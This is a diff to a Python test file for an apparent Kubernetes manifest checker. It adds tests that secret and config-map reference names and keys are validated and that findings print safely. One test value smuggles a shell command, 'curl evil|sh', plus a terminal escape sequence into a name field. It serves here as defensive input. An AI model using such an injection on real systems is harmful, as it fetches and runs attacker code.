@@ -402,3 +402,23 @@ def test_merging_does_not_expand_without_bound() -> None:
     levels = "".join(f"a{at}: &a{at} {{b: [*a{at - 1}, *a{at - 1}], <<: *a{at - 1}}}\n" for at in range(1, 60))
     _, findings = read_documents(f"a0: &a0 {{x: 1}}\n{levels}")
     assert [each.code for each in findings] == ["SEW003"]
+
+
+@pytest.mark.parametrize("kind", ["secretKeyRef", "configMapKeyRef"])
+@pytest.mark.parametrize(
+    ("name", "key", "column"),
+    [
+        ("x;curl evil|sh;#\x1b]0;", "key", ("name",)),
+        ("Slack", "key", ("name",)),
+        ("slack", "k y", ("key",)),
+        ("slack", "..", ("key",)),
+        ("slack", "a" * 254, ("key",)),
+        ("slack.hooks", "tls.key_1-A", ()),
+    ],
+)
+def test_a_reference_names_what_kubernetes_can_have(kind: str, name: str, key: str, column: tuple[str, ...]) -> None:
+    source = json.dumps({kind: {"name": name, "key": key}})
+    text = GOOD.replace("value: https://hooks.slack.com/services/T/B/X", f"valueFrom: {source}")
+    found = load_manifests(text, "f").findings
+    assert [each.code for each in found] == ["SEW045"] * len(column)
+    assert all(each.is_error and str(each).isprintable() for each in found)
